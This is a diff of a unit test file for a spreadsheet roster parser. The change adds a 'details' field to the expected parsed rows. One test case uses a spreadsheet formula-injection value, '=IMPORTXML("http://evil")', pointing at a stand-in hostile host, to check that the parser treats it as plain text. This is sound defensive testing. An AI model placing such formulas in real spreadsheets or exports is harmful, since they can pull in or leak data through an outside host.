@@ -12,8 +12,8 @@ describe('parseRoster', () => {
     expect(parsed.ok).toBe(true);
     if (!parsed.ok) return;
     expect(parsed.rows).toEqual([
-      { sheetRow: 2, member: 'alice@example.com', space: 'spaces/AAAA', role: 'Manager', action: '', status: 'ADDED' },
-      { sheetRow: 4, member: 'bob@example.com', space: 'Team', role: '', action: 'remove', status: '' },
+      { sheetRow: 2, member: 'alice@example.com', space: 'spaces/AAAA', role: 'Manager', action: '', status: 'ADDED', details: '' },
+      { sheetRow: 4, member: 'bob@example.com', space: 'Team', role: '', action: 'remove', status: '', details: '' },
     ]);
     expect(parsed.columns).toMatchObject({ member: 3, space: 1, role: 5, action: 4, status: 2, details: null, updated: null, width: 6 });
   });
@@ -43,8 +43,8 @@ describe('parseRoster', () => {
       ['=IMPORTXML("http://evil")', { toString: () => { throw new Error('evaluated'); } }, null],
     ]);
     expect(parsed.ok && parsed.rows).toEqual([
-      { sheetRow: 2, member: '12345', space: 'TRUE', role: '2026-01-02T00:00:00.000Z', action: '', status: '' },
-      { sheetRow: 3, member: '=IMPORTXML("http://evil")', space: '', role: '', action: '', status: '' },
+      { sheetRow: 2, member: '12345', space: 'TRUE', role: '2026-01-02T00:00:00.000Z', action: '', status: '', details: '' },
+      { sheetRow: 3, member: '=IMPORTXML("http://evil")', space: '', role: '', action: '', status: '', details: '' },
     ]);
   });
 
